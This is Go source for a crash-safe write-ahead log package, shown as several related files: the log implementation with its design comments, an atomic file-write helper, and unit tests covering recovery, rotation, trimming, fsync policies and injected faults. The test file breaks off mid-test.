			l2, recs2, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
			defer l2.Close()
			if len(recs2) != 1 || recs2[0].Seq != 501 {
				t.Fatalf("reopen saw %+v, want one record at seq 501", recs2)
			}
		})
	}
}

func TestRecoverIgnoresForeignFiles(t *testing.T) {
	dir := t.TempDir()
	writeSegment(t, dir, 1, frame(1, []byte("real")))
	for _, name := range []string{"checkpoint.json", "notes.txt", "zz.wal", "1234.walx"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte("junk"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	l, recs, info := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
	defer l.Close()
	if len(recs) != 1 || info.Segments != 1 {
		t.Fatalf("recovered %d records over %d segments, want 1/1", len(recs), info.Segments)
	}
}

func TestRecoverNeverPanics(t *testing.T) {
	// A directory of adversarial bytes must never panic the reader —
	// the FuzzWALRecover target hammers this same property.
	raws := [][]byte{
		nil,
		{0},
		make([]byte, frameHeaderSize-1),
		make([]byte, frameHeaderSize),
		concat(frame(1, []byte("a"))[:5], []byte{0xff, 0xff, 0xff, 0xff}),
		func() []byte { // valid CRC but seq 0
			f := make([]byte, frameHeaderSize+1)
			binary.LittleEndian.PutUint32(f[4:8], 1)
			binary.LittleEndian.PutUint64(f[8:16], 0)
			f[frameHeaderSize] = 'x'
			binary.LittleEndian.PutUint32(f[0:4], crc32.Checksum(f[4:], castagnoli))
			return f
		}(),
	}
	for i, raw := range raws {
		dir := t.TempDir()
		writeSegment(t, dir, 1, raw)
		l, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
		if err := l.Close(); err != nil {
			t.Fatalf("case %d: close: %v", i, err)
		}
	}
}
