// Package wal is a crash-safe write-ahead log: CRC32-framed,
// length-prefixed, sequence-numbered records appended to rotating
// segment files, with a configurable fsync policy and a recovery reader
// that tolerates a torn tail. It is the durability substrate under
// SEPTIC's learned query models (core.Persistence): every acknowledged
// training update is appended here before it is published in memory, so
// a crash, OOM-kill or power loss between the boot-time Load and the
// shutdown Save no longer silently discards everything learned since
// startup.
//
// # Frame format
//
// Each record is one frame:
//
//	offset size
//	0      4    CRC32-C (Castagnoli) over bytes [4, 16+len)
//	4      4    payload length, little-endian uint32
//	8      8    sequence number, little-endian uint64
//	16     len  payload (opaque bytes)
//
// Sequence numbers start at 1 and increase by exactly 1 across segment
// boundaries; a gap or repeat is treated as corruption. The CRC covers
// the length and sequence fields as well as the payload, so a frame
// whose header lies about its length fails the checksum instead of
// desynchronizing the reader.
//
// # Segments
//
// The log is a directory of segment files named %020d.wal after the
// sequence number of their first record. Appends go to the highest
// segment; when it would exceed Options.SegmentSize the segment is
// sealed (fsynced, closed) and a new one is created, with a directory
// fsync so the new name itself is durable. Sealed segments are deleted
// by TrimTo once a checkpoint has made their records redundant. The
// name is load-bearing: after a trim the active segment may hold zero
// valid records (a crash right after rotation), and recovery seeds the
// next sequence number from the name so appends can never restart below
// a checkpoint barrier and vanish behind its replay filter.
//
// The directory is single-writer: Open takes an exclusive flock on a
// LOCK file inside it and fails fast with ErrLocked when another log —
// in this or any other process — already holds it, so two daemons
// pointed at the same -wal-dir cannot interleave conflicting sequence
// numbers. The kernel releases the lock when the holding process dies.
//
// Recovery distinguishes crash debris from real damage. A torn tail in
// the NEWEST segment is the expected residue of a crash: it is
// truncated at the last good frame, counted, and the log continues.
// Invalid frames in any earlier segment can never come from a crash
// (segments are fsynced before rotation moves on), so Open refuses with
// ErrMidLogCorrupt rather than silently dropping the acknowledged
// records in intact later segments; Options.ForceRecover is the
// explicit override that truncates the damage and drops (and counts)
// everything after it.
//
// # Durability and failure semantics
//
// Append returns only after the frame is written — and, under
// FsyncAlways, fsynced — so its return IS the acknowledgement the
// crash-chaos suite holds the log to: with FsyncAlways, a record whose
// Append returned nil survives any subsequent crash. Any write or fsync
// error (or an injected crash unwinding mid-frame) poisons the log: the
// on-disk tail is unknowable from user space after a failed write, so
// every later Append fails with ErrLogFailed until the process reopens
// the directory and lets recovery truncate the tear. The alternative —
// appending past a possibly-torn frame — would strand durable,
// acknowledged records behind a bad frame where recovery must drop
// them.
package wal

import (
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
	"time"

	"github.com/septic-db/septic/internal/faultinject"
)

// FsyncPolicy selects when appends are made durable.
type FsyncPolicy int

// Fsync policies. Enums start at 1 so the zero value is invalid.
const (
	FsyncInvalid FsyncPolicy = iota
	// FsyncAlways fsyncs after every append: an Append that returned nil
	// survives any crash. The policy the durability guarantee is stated
	// under.
	FsyncAlways
	// FsyncInterval fsyncs on a background timer (Options.Interval):
	// bounded data loss — at most one interval of acknowledged appends —
	// for near-FsyncNever append latency.
	FsyncInterval
	// FsyncNever leaves flushing to the OS page cache: fastest, loses up
	// to everything since the last kernel writeback on power loss, but
	// still torn-tail-safe (recovery truncates, never corrupts).
	FsyncNever
)

// String names the policy the way the septicd flag spells it.
func (p FsyncPolicy) String() string {
	switch p {
	case FsyncAlways:
		return "always"
	case FsyncInterval:
		return "interval"
	case FsyncNever:
		return "never"
	default:
		return fmt.Sprintf("FsyncPolicy(%d)", int(p))
	}
}

// ParseFsyncPolicy maps a flag string to its policy.
func ParseFsyncPolicy(s string) (FsyncPolicy, error) {
	switch s {
	case "always":
		return FsyncAlways, nil
	case "interval":
		return FsyncInterval, nil
	case "never":
		return FsyncNever, nil
	default:
		return FsyncInvalid, fmt.Errorf("unknown fsync policy %q (want always, interval or never)", s)
	}
}

const (
	// frameHeaderSize is the fixed per-record framing overhead.
	frameHeaderSize = 16
	// MaxRecordSize bounds one payload; a frame header claiming more is
	// corruption (a "lying length"), not a huge record.
	MaxRecordSize = 16 << 20
	// DefaultSegmentSize is the rotation threshold.
	DefaultSegmentSize = 4 << 20
	// DefaultInterval is the FsyncInterval flush period.
	DefaultInterval = 100 * time.Millisecond
	// segmentSuffix names segment files.
	segmentSuffix = ".wal"
	// lockFileName is the flock target guarding the directory against a
	// second writer.
	lockFileName = "LOCK"
)

// castagnoli is the CRC32-C table; hardware-accelerated on amd64/arm64.
var castagnoli = crc32.MakeTable(crc32.Castagnoli)

// ErrLogFailed is wrapped by every Append after the log is poisoned by
// a write or fsync failure; the process must reopen the directory to
// recover.
var ErrLogFailed = errors.New("wal: log failed, reopen to recover")

// ErrClosed is returned by operations on a closed log.
var ErrClosed = errors.New("wal: log closed")

// ErrLocked is returned by Open when another log — in this process or
// any other — holds the directory's exclusive lock.
var ErrLocked = errors.New("wal: directory locked by another log")

// ErrMidLogCorrupt is returned by Open when a segment other than the
// newest has invalid frames. That can never be crash debris (sealed
// segments are fsynced before rotation proceeds), and recovering past
// it would drop the acknowledged records in the intact later segments;
// set Options.ForceRecover to do exactly that, explicitly.
var ErrMidLogCorrupt = errors.New("wal: mid-log corruption")

// Options configures a log directory.
type Options struct {
	// Dir is the segment directory, created if absent.
	Dir string
	// Policy is the fsync policy; default FsyncAlways.
	Policy FsyncPolicy
	// Interval is the FsyncInterval flush period; default
	// DefaultInterval.
	Interval time.Duration
	// SegmentSize is the rotation threshold; default DefaultSegmentSize.
	SegmentSize int64
	// ForceRecover recovers past mid-log damage by truncating the
	// damaged segment and dropping every later one (counted in
	// RecoveryInfo). Default false: Open fails with ErrMidLogCorrupt
	// instead, refusing to silently discard acknowledged records.
	ForceRecover bool
}

// withDefaults resolves zero fields.
func (o Options) withDefaults() Options {
	if o.Policy == FsyncInvalid {
		o.Policy = FsyncAlways
	}
	if o.Interval <= 0 {
		o.Interval = DefaultInterval
	}
	if o.SegmentSize <= 0 {
		o.SegmentSize = DefaultSegmentSize
	}
	return o
}

// Stats is a snapshot of the log's work counters.
type Stats struct {
	// Appends counts records successfully appended this process.
	Appends int64
	// AppendErrors counts Append calls that failed.
	AppendErrors int64
	// Fsyncs counts fsyncs of the active segment.
	Fsyncs int64
	// Rotations counts segment seals.
	Rotations int64
	// Trimmed counts sealed segments deleted by TrimTo.
	Trimmed int64
	// LastSeq is the highest sequence number assigned.
	LastSeq uint64
}

// segmentInfo records one sealed (read-only) segment.
type segmentInfo struct {
	path        string
	first, last uint64
}

// Log is an open write-ahead log directory. All methods are safe for
// concurrent use; appends are serialized internally.
type Log struct {
	opts Options

	mu     sync.Mutex
	f      *os.File // active segment
	lock   *os.File // flock'd LOCK file; released on Close/Kill
	size   int64    // bytes in active segment
	seq    uint64   // last assigned sequence number
	first  uint64   // first sequence number of the active segment
	sealed []segmentInfo
	failed error // sticky poison; nil while healthy
	closed bool
	// watchers are live-tail subscriptions (see read.go); notified under
	// l.mu after each successful append.
	watchers []*Watcher

	// torn marks the window where bytes of a frame may be on disk but
	// the frame is incomplete; an unwind (panic or error) inside the
	// window poisons the log via the Append defer.
	torn bool

	appends    atomic.Int64
	appendErrs atomic.Int64
	fsyncs     atomic.Int64
	rotations  atomic.Int64
	trimmed    atomic.Int64

	stopc    chan struct{}
	syncDone chan struct{}
}

// segmentName renders the file name of the segment whose first record
// has sequence number seq.
func segmentName(seq uint64) string {
	return fmt.Sprintf("%020d%s", seq, segmentSuffix)
}

// syncDir fsyncs a directory so a just-created, renamed or removed name
// in it is durable.
func syncDir(dir string) error {
	d, err := os.Open(dir)
	if err != nil {
		return err
	}
	err = d.Sync()
	if cerr := d.Close(); err == nil {
		err = cerr
	}
	return err
}

// Stats snapshots the counters.
func (l *Log) Stats() Stats {
	l.mu.Lock()
	seq := l.seq
	l.mu.Unlock()
	return Stats{
		Appends:      l.appends.Load(),
		AppendErrors: l.appendErrs.Load(),
		Fsyncs:       l.fsyncs.Load(),
		Rotations:    l.rotations.Load(),
		Trimmed:      l.trimmed.Load(),
		LastSeq:      seq,
	}
}

// LastSeq returns the highest sequence number assigned so far (0 if the
// log is empty).
func (l *Log) LastSeq() uint64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.seq
}

// Err returns the sticky failure poisoning the log, or nil while it is
// healthy.
func (l *Log) Err() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.failed
}

// fail poisons the log. Caller holds l.mu.
func (l *Log) fail(cause error) {
	if l.failed == nil {
		l.failed = fmt.Errorf("%w: %w", ErrLogFailed, cause)
	}
}

// Append writes one record and returns its sequence number. Under
// FsyncAlways the record is durable when Append returns nil — that
// return is the acknowledgement the recovery guarantee is stated over.
// After any failure the log is poisoned and every call fails with
// ErrLogFailed (see the package comment for why).
func (l *Log) Append(data []byte) (seq uint64, err error) {
	if len(data) == 0 {
		return 0, errors.New("wal: empty record")
	}
	if len(data) > MaxRecordSize {
		return 0, fmt.Errorf("wal: record %d bytes exceeds limit %d", len(data), MaxRecordSize)
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	// The torn flag survives both error returns and panics (an injected
	// Crash mid-write): either way bytes of an incomplete frame may be on
	// disk and the log must refuse to append past them.
	defer func() {
		if l.torn {
			// Reached on error return or on a panic (an injected Crash)
			// unwinding mid-frame: incomplete bytes may be on disk.
			l.torn = false
			l.fail(errors.New("torn append"))
		}
		if err != nil {
			l.appendErrs.Add(1)
		}
	}()
	if l.closed {
		return 0, ErrClosed
	}
	if l.failed != nil {
		return 0, l.failed
	}
	faultinject.Hit(faultinject.SiteWALAppend)
	if ierr := faultinject.HitErr(faultinject.SiteWALAppend); ierr != nil {
		return 0, ierr // nothing written yet: injected failure, no poison
	}

	frameLen := int64(frameHeaderSize + len(data))
	if l.size > 0 && l.size+frameLen > l.opts.SegmentSize {
		if err := l.rotate(); err != nil {
			l.fail(err)
			return 0, err
		}
	}

	next := l.seq + 1
	frame := make([]byte, frameHeaderSize, frameHeaderSize+len(data))
	binary.LittleEndian.PutUint32(frame[4:8], uint32(len(data)))
	binary.LittleEndian.PutUint64(frame[8:16], next)
	frame = append(frame, data...)
	binary.LittleEndian.PutUint32(frame[0:4], crc32.Checksum(frame[4:], castagnoli))

	// Torn window: from the first byte written until the frame is
	// complete. With fault injection armed the frame goes down in two
	// halves with the short-write site between them, so an armed kill
	// leaves a genuinely torn frame for recovery to truncate; unarmed it
	// is one write call.
	l.torn = true
	if faultinject.Armed() || faultinject.ErrArmed() {
		half := len(frame) / 2
		if _, err := l.f.Write(frame[:half]); err != nil {
			return 0, err
		}
		faultinject.Hit(faultinject.SiteWALShortWrite)
		if ierr := faultinject.HitErr(faultinject.SiteWALShortWrite); ierr != nil {
			return 0, ierr
		}
		if _, err := l.f.Write(frame[half:]); err != nil {
			return 0, err
		}
	} else if _, err := l.f.Write(frame); err != nil {
		return 0, err
	}
	l.torn = false

	l.seq = next
	l.size += frameLen
	l.appends.Add(1)

	if l.opts.Policy == FsyncAlways {
		if err := l.syncLocked(); err != nil {
			l.fail(err)
			return 0, err
		}
	}
	// Tail subscribers hear about the record only once it is as durable
	// as the policy makes it: a replica can never apply an update the
	// primary would not recover itself.
	l.notifyWatchers(next, data)
	return next, nil
}

// syncLocked fsyncs the active segment. Caller holds l.mu.
func (l *Log) syncLocked() error {
	faultinject.Hit(faultinject.SiteWALFsync)
	if ierr := faultinject.HitErr(faultinject.SiteWALFsync); ierr != nil {
		return ierr
	}
	if err := l.f.Sync(); err != nil {
		return err
	}
	l.fsyncs.Add(1)
	return nil
}

// Sync forces the active segment to disk regardless of policy.
func (l *Log) Sync() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return ErrClosed
	}
	if l.failed != nil {
		return l.failed
	}
	if err := l.syncLocked(); err != nil {
		l.fail(err)
		return err
	}
	return nil
}

// rotate seals the active segment and starts a new one. Caller holds
// l.mu. A crash anywhere inside leaves either the sealed segment alone
// (recovery appends to it) or an empty new segment (recovery sees zero
// records in it) — both consistent.
func (l *Log) rotate() error {
	faultinject.Hit(faultinject.SiteWALRotate)
	if ierr := faultinject.HitErr(faultinject.SiteWALRotate); ierr != nil {
		return ierr
	}
	// Seal: the old segment's records must be durable before the log
	// moves on, whatever the append policy — TrimTo may delete WAL
	// history on the strength of a checkpoint while these bytes are still
	// only in the page cache otherwise.
	if err := l.f.Sync(); err != nil {
		return err
	}
	l.fsyncs.Add(1)
	if err := l.f.Close(); err != nil {
		return err
	}
	l.sealed = append(l.sealed, segmentInfo{
		path:  filepath.Join(l.opts.Dir, segmentName(l.first)),
		first: l.first,
		last:  l.seq,
	})
	first := l.seq + 1
	f, err := os.OpenFile(filepath.Join(l.opts.Dir, segmentName(first)),
		os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0o644)
	if err != nil {
		return err
	}
	if err := syncDir(l.opts.Dir); err != nil {
		f.Close()
		return err
	}
	l.f = f
	l.first = first
	l.size = 0
	l.rotations.Add(1)
	return nil
}

// TrimTo deletes sealed segments whose every record has sequence number
// ≤ seq — called after a checkpoint covering seq has been made durable.
// The active segment is never deleted. Returns the number of segments
// removed. A crash mid-trim leaves a shorter (still contiguous from
// some sequence number) history; recovery handles it like any other
// prefix-trimmed log.
func (l *Log) TrimTo(seq uint64) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return 0, ErrClosed
	}
	faultinject.Hit(faultinject.SiteWALTrim)
	if ierr := faultinject.HitErr(faultinject.SiteWALTrim); ierr != nil {
		return 0, ierr
	}
	removed := 0
	// Oldest-first, stopping at the first keeper: a crash between
	// removals can only shorten the prefix, never hole the middle.
	for len(l.sealed) > 0 && l.sealed[0].last <= seq {
		if err := os.Remove(l.sealed[0].path); err != nil && !os.IsNotExist(err) {
			return removed, err
		}
		l.sealed = l.sealed[1:]
		removed++
	}
	if removed > 0 {
		l.trimmed.Add(int64(removed))
		if err := syncDir(l.opts.Dir); err != nil {
			return removed, err
		}
	}
	return removed, nil
}

// Close flushes (best-effort when already poisoned) and closes the log.
func (l *Log) Close() error {
	l.mu.Lock()
	if l.closed {
		l.mu.Unlock()
		return ErrClosed
	}
	l.closed = true
	stopc := l.stopc
	l.mu.Unlock()
	if stopc != nil {
		close(stopc)
		<-l.syncDone
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	l.closeWatchersLocked()
	var err error
	if l.failed == nil {
		err = l.f.Sync()
	}
	if cerr := l.f.Close(); err == nil {
		err = cerr
	}
	if l.lock != nil {
		// Closing the LOCK file releases the flock: the directory is
		// free for the next Open.
		if cerr := l.lock.Close(); err == nil {
			err = cerr
		}
	}
	return err
}

// Kill releases the log's OS resources — the active segment descriptor
// and the directory lock — without flushing anything, exactly as the
// kernel reaps a dead process's descriptors. It exists for crash tests:
// an in-process "kill -9" must leave the files as the last write (and
// the fsync policy) left them, yet still free the directory lock so the
// next Open can recover. Never call it on a log you mean to keep.
func (l *Log) Kill() {
	l.mu.Lock()
	if l.closed {
		l.mu.Unlock()
		return
	}
	l.closed = true
	stopc := l.stopc
	l.mu.Unlock()
	if stopc != nil {
		close(stopc)
		<-l.syncDone
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	l.closeWatchersLocked()
	_ = l.f.Close()
	if l.lock != nil {
		_ = l.lock.Close()
	}
}

// runIntervalSync is the FsyncInterval background flusher.
func (l *Log) runIntervalSync() {
	defer close(l.syncDone)
	t := time.NewTicker(l.opts.Interval)
	defer t.Stop()
	for {
		select {
		case <-l.stopc:
			return
		case <-t.C:
			l.mu.Lock()
			if !l.closed && l.failed == nil && l.size > 0 {
				if err := l.syncLocked(); err != nil {
					l.fail(err)
				}
			}
			l.mu.Unlock()
		}
	}
}
