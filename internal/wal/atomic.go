package wal

import (
	"fmt"
	"os"
	"path/filepath"

	"github.com/septic-db/septic/internal/faultinject"
)

// WriteFileAtomic publishes data at path so that a crash at ANY point
// leaves either the previous content or the new content — never a
// mixture, never a missing file. The sequence is the standard one:
// write to a temp file in the same directory, fsync the file, rename it
// over the target, fsync the directory so the rename itself is durable.
// Checkpoints and Store.Save both publish through here; the kill points
// around the write and the rename are what the crash-chaos suite arms
// to prove the "previous content survives" half.
func WriteFileAtomic(path string, data []byte, perm os.FileMode) error {
	dir := filepath.Dir(path)
	tmp := path + ".tmp"
	f, err := os.OpenFile(tmp, os.O_CREATE|os.O_TRUNC|os.O_WRONLY, perm)
	if err != nil {
		return fmt.Errorf("wal: atomic write %s: %w", path, err)
	}
	// Any failure before the rename leaves the target untouched; the
	// stale temp file is harmless and overwritten by the next attempt.
	if _, err := f.Write(data); err != nil {
		f.Close()
		return fmt.Errorf("wal: atomic write %s: %w", path, err)
	}
	faultinject.Hit(faultinject.SiteAtomicWrite)
	if ierr := faultinject.HitErr(faultinject.SiteAtomicWrite); ierr != nil {
		f.Close()
		return ierr
	}
	if err := f.Sync(); err != nil {
		f.Close()
		return fmt.Errorf("wal: atomic write %s: fsync: %w", path, err)
	}
	if err := f.Close(); err != nil {
		return fmt.Errorf("wal: atomic write %s: close: %w", path, err)
	}
	faultinject.Hit(faultinject.SiteAtomicRename)
	if ierr := faultinject.HitErr(faultinject.SiteAtomicRename); ierr != nil {
		return ierr
	}
	if err := os.Rename(tmp, path); err != nil {
		return fmt.Errorf("wal: atomic write %s: rename: %w", path, err)
	}
	if err := syncDir(dir); err != nil {
		return fmt.Errorf("wal: atomic write %s: sync dir: %w", path, err)
	}
	return nil
}
