package wal

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"github.com/septic-db/septic/internal/faultinject"
)

// openCollect opens dir and returns the log plus every recovered
// record.
func openCollect(t *testing.T, opts Options) (*Log, []Record, RecoveryInfo) {
	t.Helper()
	var recs []Record
	l, info, err := Open(opts, func(r Record) error {
		recs = append(recs, r)
		return nil
	})
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	return l, recs, info
}

func TestAppendRecoverRoundTrip(t *testing.T) {
	dir := t.TempDir()
	l, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
	want := [][]byte{[]byte("one"), []byte("two"), []byte("three")}
	for i, d := range want {
		seq, err := l.Append(d)
		if err != nil {
			t.Fatalf("append %d: %v", i, err)
		}
		if seq != uint64(i+1) {
			t.Fatalf("append %d: seq %d, want %d", i, seq, i+1)
		}
	}
	if err := l.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}

	l2, recs, info := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
	defer l2.Close()
	if info.Records != len(want) || info.Truncated || info.TornSegments != 0 {
		t.Fatalf("recovery info: %+v", info)
	}
	for i, r := range recs {
		if string(r.Data) != string(want[i]) || r.Seq != uint64(i+1) {
			t.Fatalf("record %d: seq %d data %q", i, r.Seq, r.Data)
		}
	}
	// Appends continue the sequence.
	seq, err := l2.Append([]byte("four"))
	if err != nil || seq != 4 {
		t.Fatalf("continued append: seq %d err %v", seq, err)
	}
}

func TestRotationAndTrim(t *testing.T) {
	dir := t.TempDir()
	// Tiny segments: every record larger than half the threshold forces
	// a rotation per append.
	l, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever, SegmentSize: 64})
	payload := make([]byte, 48)
	const n = 5
	for i := 0; i < n; i++ {
		if _, err := l.Append(payload); err != nil {
			t.Fatalf("append %d: %v", i, err)
		}
	}
	if got := l.Stats().Rotations; got != n-1 {
		t.Fatalf("rotations = %d, want %d", got, n-1)
	}
	names, _ := listSegments(dir)
	if len(names) != n {
		t.Fatalf("segments on disk = %d, want %d", len(names), n)
	}

	// Trim everything covered by a "checkpoint" at seq 3: segments whose
	// last record ≤ 3 go; the active segment stays whatever happens.
	removed, err := l.TrimTo(3)
	if err != nil {
		t.Fatalf("trim: %v", err)
	}
	if removed != 3 {
		t.Fatalf("trimmed %d segments, want 3", removed)
	}
	if err := l.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}

	// Recovery of the trimmed log starts mid-sequence.
	l2, recs, info := openCollect(t, Options{Dir: dir, Policy: FsyncNever, SegmentSize: 64})
	defer l2.Close()
	if info.Records != 2 || info.FirstSeq != 4 || info.LastSeq != 5 {
		t.Fatalf("post-trim recovery: %+v", info)
	}
	if len(recs) != 2 || recs[0].Seq != 4 {
		t.Fatalf("post-trim records: %+v", recs)
	}
	if seq, err := l2.Append(payload); err != nil || seq != 6 {
		t.Fatalf("post-trim append: seq %d err %v", seq, err)
	}
}

func TestFsyncPolicies(t *testing.T) {
	for _, policy := range []FsyncPolicy{FsyncAlways, FsyncInterval, FsyncNever} {
		t.Run(policy.String(), func(t *testing.T) {
			dir := t.TempDir()
			l, _, _ := openCollect(t, Options{Dir: dir, Policy: policy})
			if _, err := l.Append([]byte("x")); err != nil {
				t.Fatalf("append: %v", err)
			}
			st := l.Stats()
			if policy == FsyncAlways && st.Fsyncs == 0 {
				t.Fatal("FsyncAlways did not fsync on append")
			}
			if policy == FsyncNever && st.Fsyncs != 0 {
				t.Fatalf("FsyncNever fsynced %d times", st.Fsyncs)
			}
			if err := l.Sync(); err != nil {
				t.Fatalf("explicit sync: %v", err)
			}
			if l.Stats().Fsyncs == st.Fsyncs {
				t.Fatal("explicit Sync did not fsync")
			}
			if err := l.Close(); err != nil {
				t.Fatalf("close: %v", err)
			}
		})
	}
}

func TestParseFsyncPolicy(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want FsyncPolicy
		ok   bool
	}{
		{"always", FsyncAlways, true},
		{"interval", FsyncInterval, true},
		{"never", FsyncNever, true},
		{"sometimes", FsyncInvalid, false},
		{"", FsyncInvalid, false},
	} {
		got, err := ParseFsyncPolicy(tc.in)
		if (err == nil) != tc.ok || got != tc.want {
			t.Errorf("ParseFsyncPolicy(%q) = %v, %v", tc.in, got, err)
		}
	}
}

func TestAppendValidation(t *testing.T) {
	dir := t.TempDir()
	l, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
	defer l.Close()
	if _, err := l.Append(nil); err == nil {
		t.Fatal("empty record accepted")
	}
	if _, err := l.Append(make([]byte, MaxRecordSize+1)); err == nil {
		t.Fatal("oversized record accepted")
	}
	// Neither validation failure poisons the log.
	if _, err := l.Append([]byte("ok")); err != nil {
		t.Fatalf("append after validation errors: %v", err)
	}
}

func TestInjectedFsyncErrorPoisonsLog(t *testing.T) {
	defer faultinject.DisarmErr()
	dir := t.TempDir()
	l, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncAlways})
	defer l.Close()
	if _, err := l.Append([]byte("healthy")); err != nil {
		t.Fatalf("append: %v", err)
	}
	faultinject.ArmErr(faultinject.FailPoint(faultinject.SiteWALFsync, 1))
	if _, err := l.Append([]byte("doomed")); !errors.Is(err, faultinject.ErrInjected) {
		t.Fatalf("append under fsync fault: %v", err)
	}
	faultinject.DisarmErr()
	// The write preceding the failed fsync may or may not be durable;
	// the log must refuse to append past it.
	if _, err := l.Append([]byte("after")); !errors.Is(err, ErrLogFailed) {
		t.Fatalf("append on poisoned log: %v", err)
	}
	if l.Err() == nil {
		t.Fatal("Err() nil on poisoned log")
	}
	if l.Stats().AppendErrors != 2 {
		t.Fatalf("append errors = %d, want 2", l.Stats().AppendErrors)
	}
}

func TestKillMidWriteLeavesRecoverableTorn(t *testing.T) {
	defer faultinject.Disarm()
	dir := t.TempDir()
	l, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncAlways})
	acked := 0
	for i := 0; i < 3; i++ {
		if _, err := l.Append([]byte(fmt.Sprintf("acked-%d", i))); err != nil {
			t.Fatalf("append %d: %v", i, err)
		}
		acked++
	}
	faultinject.Arm(faultinject.KillPoint(faultinject.SiteWALShortWrite, 1))
	func() {
		defer func() {
			if r := recover(); !faultinject.IsCrash(r) {
				t.Fatalf("expected injected crash, got %v", r)
			}
		}()
		l.Append([]byte("torn"))
		t.Fatal("append survived the kill point")
	}()
	faultinject.Disarm()
	// The crash left half a frame on disk; the poisoned log refuses to
	// append past it, so no acknowledged record can land beyond the tear.
	if _, err := l.Append([]byte("after-crash")); !errors.Is(err, ErrLogFailed) {
		t.Fatalf("append after mid-write crash: %v", err)
	}
	// Kill, don't Close — a crash doesn't flush, but the kernel does
	// reap the dead process's descriptors, releasing the directory
	// lock. Recovery truncates the torn frame and keeps every
	// acknowledged record.
	l.Kill()
	l2, recs, info := openCollect(t, Options{Dir: dir, Policy: FsyncAlways})
	defer l2.Close()
	if len(recs) != acked {
		t.Fatalf("recovered %d records, want %d acked", len(recs), acked)
	}
	if !info.Truncated || info.TornSegments != 1 {
		t.Fatalf("recovery info: %+v", info)
	}
	// Convergence: a second recovery sees a clean log.
	if err := l2.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}
	l3, recs3, info3 := openCollect(t, Options{Dir: dir, Policy: FsyncAlways})
	defer l3.Close()
	if info3.Truncated || len(recs3) != acked {
		t.Fatalf("second recovery not converged: %+v (%d records)", info3, len(recs3))
	}
}

func TestClosedLogRefusesWork(t *testing.T) {
	dir := t.TempDir()
	l, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncInterval})
	if err := l.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}
	if _, err := l.Append([]byte("x")); !errors.Is(err, ErrClosed) {
		t.Fatalf("append on closed log: %v", err)
	}
	if err := l.Sync(); !errors.Is(err, ErrClosed) {
		t.Fatalf("sync on closed log: %v", err)
	}
	if _, err := l.TrimTo(1); !errors.Is(err, ErrClosed) {
		t.Fatalf("trim on closed log: %v", err)
	}
	if err := l.Close(); !errors.Is(err, ErrClosed) {
		t.Fatalf("double close: %v", err)
	}
}

// TestDirLockExcludesSecondLog: the directory is single-writer — a
// second Open (same process or another; flock conflicts either way)
// fails fast instead of interleaving conflicting sequence numbers into
// the active segment.
func TestDirLockExcludesSecondLog(t *testing.T) {
	dir := t.TempDir()
	l1, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
	if _, _, err := Open(Options{Dir: dir, Policy: FsyncNever}, nil); !errors.Is(err, ErrLocked) {
		t.Fatalf("second open of a held directory: err = %v, want ErrLocked", err)
	}
	if err := l1.Close(); err != nil {
		t.Fatal(err)
	}
	// Close released the lock: the directory opens cleanly again.
	l2, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
	if err := l2.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestKillReleasesLockWithoutFlushing: Kill is the crash tests'
// simulated process death — descriptors (and the directory lock) are
// released, nothing is flushed, and recovery proceeds over whatever the
// writes left behind.
func TestKillReleasesLockWithoutFlushing(t *testing.T) {
	dir := t.TempDir()
	l, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
	if _, err := l.Append([]byte("pre-crash")); err != nil {
		t.Fatalf("append: %v", err)
	}
	l.Kill()
	if _, err := l.Append([]byte("post-kill")); !errors.Is(err, ErrClosed) {
		t.Fatalf("append after kill: %v, want ErrClosed", err)
	}
	l.Kill() // idempotent, like killing a dead process
	l2, recs, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
	defer l2.Close()
	if len(recs) != 1 || string(recs[0].Data) != "pre-crash" {
		t.Fatalf("recovery after kill: %+v", recs)
	}
}

// TestSeqSurvivesTrimToEmptyActiveSegment drives the full production
// sequence of the bug: rotate, checkpoint-trim the sealed history,
// crash mid-append so recovery truncates the fresh segment to empty,
// trim again — and then require the next append to continue past the
// trimmed history instead of restarting at 1 below the checkpoint
// barrier.
func TestSeqSurvivesTrimToEmptyActiveSegment(t *testing.T) {
	defer faultinject.Disarm()
	dir := t.TempDir()
	opts := Options{Dir: dir, Policy: FsyncAlways, SegmentSize: 64}
	payload := make([]byte, 48) // > half the threshold: one rotation per append

	l, _, _ := openCollect(t, opts)
	for i := 0; i < 4; i++ {
		if _, err := l.Append(payload); err != nil {
			t.Fatalf("append %d: %v", i, err)
		}
	}
	// A checkpoint at seq 3 trims the sealed segments 1–3; the active
	// segment holds record 4.
	if _, err := l.TrimTo(3); err != nil {
		t.Fatal(err)
	}
	// Crash mid-append of record 5: the rotation seals segment 4 and the
	// new segment's first frame tears.
